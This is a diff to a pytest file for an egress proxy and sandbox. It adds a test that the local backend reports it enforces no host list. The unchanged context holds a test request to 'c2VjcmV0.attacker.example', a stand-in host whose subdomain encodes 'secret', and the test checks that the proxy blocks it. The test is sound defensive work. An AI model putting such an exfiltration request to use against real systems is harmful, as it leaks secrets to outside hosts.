@@ -12,6 +12,7 @@ import threading
 import time
 from collections.abc import Iterator
 from contextlib import contextmanager
+from pathlib import Path
 
 import pytest
 
@@ -201,3 +202,14 @@ def test_an_unlisted_name_is_never_resolved() -> None:
     with EgressProxy(["api.example.com"], resolve=resolve) as proxy:
         reply = _exchange(proxy, b"CONNECT c2VjcmV0.attacker.example:443 HTTP/1.1\r\n\r\n")
     assert reply.startswith(b"HTTP/1.1 403") and asked == []
+
+
+def test_the_local_backend_says_it_enforces_no_host_list(tmp_path: Path) -> None:
+    from choir.models import Limits
+    from choir.sandbox.local import LocalSandbox
+
+    said: list[bytes] = []
+    result = LocalSandbox().exec("true", repo=tmp_path, out_dir=tmp_path / "out", env={},
+                                 timeout_s=30, limits=Limits(), network=False,
+                                 sink=said.append, hosts=["api.example.com"])
+    assert result.exit_code == 0 and b"enforces no host list" in b"".join(said)
